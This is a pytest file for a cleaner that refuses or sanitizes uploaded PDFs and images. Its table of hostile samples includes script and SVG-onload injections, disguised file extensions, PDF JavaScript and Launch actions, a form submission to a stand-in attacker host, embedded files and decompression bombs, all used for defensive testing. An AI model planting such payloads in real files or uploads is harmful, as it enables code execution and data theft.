"""What is taken as a document and what is not: the table of hostile files, and what is left out of the rest."""

from io import BytesIO

import pikepdf
import pytest
from PIL import Image

from registry.importers.documents import EXTENSIONS, LIMIT_BYTES, SENTENCES, Untaken, clean_file, page_count
from registry.importers.evidence.cleaning import FILE_BYTES, KINDS, clean
from registry.importers.evidence.refusal import Refusal
from tests.registry.importers import documents as made

PLAIN = made.pdf()
PAGE = b"<html><script>alert(1)</script></html>"

HOSTILE = [
    ("nothing", "a.pdf", b"", "empty"),
    ("too much", "a.pdf", PLAIN + b"\0" * LIMIT_BYTES, "too_big"),
    ("a program", "a.exe", b"MZ", "kind"),
    ("a web page", "a.html", PAGE, "kind"),
    ("a drawing", "a.svg", b"<svg onload='alert(1)'/>", "kind"),
    ("without extension", "certificate", PLAIN, "kind"),
    ("two extensions, the last a program's", "a.pdf.exe", PLAIN, "kind"),
    ("an extension turned around for the eye", "a\u202efdp.exe", PLAIN, "kind"),
    ("an extension behind a line break", "a.pdf\r\n.exe", PLAIN, "kind"),
    ("a web page called PDF", "a.pdf", PAGE, "disguised"),
    ("a web page before a PDF", "a.pdf", PAGE + PLAIN, "disguised"),
    ("a picture called PDF", "a.pdf", made.picture(), "disguised"),
    ("a JPEG called PNG", "a.png", made.picture(), "disguised"),
    ("a GIF called PNG", "a.png", b"GIF89a" + b"\0" * 20, "disguised"),
    ("an archive behind a PDF", "a.pdf", PLAIN + made.archive(), "two_at_once"),
    ("an archive behind a picture", "a.jpg", made.picture() + made.archive(), "two_at_once"),
    ("a script", "a.pdf", made.pdf(made.action("JavaScript", JS="app.alert(1)")), "script"),
    ("a script in packed objects", "a.pdf", made.packed_pdf(made.action("JavaScript", JS="app.alert(1)")), "script"),
    ("a program", "a.pdf", made.pdf(made.action("Launch", F="calc.exe")), "program"),
    ("a program in packed objects", "a.pdf", made.packed_pdf(made.action("Launch", F="calc.exe")), "program"),
    ("a program deep in a page", "a.pdf", made.packed_pdf(made.action_of_a_page), "program"),
    ("sending data away", "a.pdf", made.pdf(made.action("SubmitForm", F="https://evil.example")), "program"),
    ("a file inside", "a.pdf", made.packed_pdf(made.attachment), "attachment"),
    ("a form of XML", "a.pdf", made.pdf(made.form), "form"),
    ("encrypted for nobody", "a.pdf", made.encrypted_pdf(), "password"),
    ("a password", "a.pdf", made.encrypted_pdf(user="secret"), "password"),
    ("a head without body", "a.pdf", b"%PDF-1.7\nnonsense", "broken"),
    ("half a picture", "a.png", made.picture("PNG")[:40], "broken"),
    ("a picture that unpacks for ever", "a.png", made.wide_picture(), "too_many_pixels"),
]


@pytest.mark.parametrize(("name", "data", "code"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE])
def test_a_hostile_file_is_refused_with_its_own_sentence(name, data, code):
    with pytest.raises(Refusal) as refused:
        clean(name, data)

    assert refused.value.code == code
    assert Untaken(code, **refused.value.params).sentence().endswith(".")


def test_every_reason_has_a_sentence_and_every_kind_an_extension():
    assert {row[-1] for row in HOSTILE} | {"too_many_parts", "too_heavy"} == set(SENTENCES)
    assert {media_type for media_type, _first in KINDS.values()} == set(EXTENSIONS)
    assert FILE_BYTES == LIMIT_BYTES


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.pdf", PLAIN),
        ("A.PDF", made.packed_pdf(None)),
        ("Accounts 31.12.2024.pdf", PLAIN),
        ("a.jpeg", made.picture()),
        ("a.jpg", made.picture(mode="CMYK")),
        ("a.png", made.picture("PNG", mode="RGBA")),
        ("a.png", made.picture("PNG", mode="P")),
        ("شهادة.pdf", PLAIN),
    ],
)
def test_a_plain_file_is_taken(name, data):
    media_type, kept = clean(name, data)

    assert clean(f"again.{EXTENSIONS[media_type]}", kept)[0] == media_type


def test_who_wrote_a_pdf_and_what_it_would_do_when_opened_are_left_out():
    _media_type, kept = clean("a.pdf", made.pdf(lambda document: (made.author(document), made.trigger(document))))

    with pikepdf.open(BytesIO(kept)) as document:
        assert "/Info" not in document.trailer
        assert "/Metadata" not in document.Root
        assert "/AA" not in document.pages[0].obj
    assert b"Zainab" not in kept


def test_a_photograph_keeps_its_pixels_upright_and_nothing_else():
    photograph = made.photograph()
    assert b"Secret Camera" in photograph

    _media_type, kept = clean("a.jpg", photograph + PAGE)

    with Image.open(BytesIO(kept)) as picture:
        assert picture.size == (30, 40)
        assert not picture.getexif()
    assert b"Secret Camera" not in kept
    assert b"script" not in kept


def test_a_picture_of_few_colours_keeps_them():
    colours = Image.new("RGB", (2, 1))
    colours.putdata([(250, 10, 10), (10, 10, 250)])
    out = BytesIO()
    colours.quantize(2).save(out, "PNG")

    _media_type, kept = clean("a.png", out.getvalue())

    with Image.open(BytesIO(kept)) as picture:
        pixels = picture.convert("RGB")
        assert [pixels.getpixel((0, 0)), pixels.getpixel((1, 0))] == [(250, 10, 10), (10, 10, 250)]


def test_the_same_document_is_written_the_same_each_time():
    assert clean("a.pdf", PLAIN) == clean("b.pdf", PLAIN)


def test_a_file_is_looked_into_in_a_process_of_its_own():
    """Slow: starts a process."""
    file = clean_file("a.pdf", PLAIN)

    assert (file.media_type, file.extension) == ("application/pdf", "pdf")
    assert file.data == clean("a.pdf", PLAIN)[1]
    with pytest.raises(Untaken) as untaken:
        clean_file("a.pdf", made.pdf(made.attachment))
    assert untaken.value.sentence().startswith("The PDF carries other files inside.")


@pytest.mark.slow
def test_a_file_that_swells_when_it_is_opened_stops_its_reader_and_not_us():
    """Slow: makes a gigabyte and a half of blanks, packed."""
    bomb = made.bomb()
    assert len(bomb) < LIMIT_BYTES

    with pytest.raises(Untaken) as untaken:
        clean_file("a.pdf", bomb)

    assert untaken.value.code in {"too_heavy", "broken"}


@pytest.mark.parametrize(
    ("media_type", "data", "pages"),
    [
        ("application/pdf", made.pages(3), 3),
        ("image/png", b"a picture", 1),
        ("application/pdf", b"%PDF-1.7 broken", None),
    ],
)
def test_pages_are_counted(media_type, data, pages):
    assert page_count(media_type, data) == pages
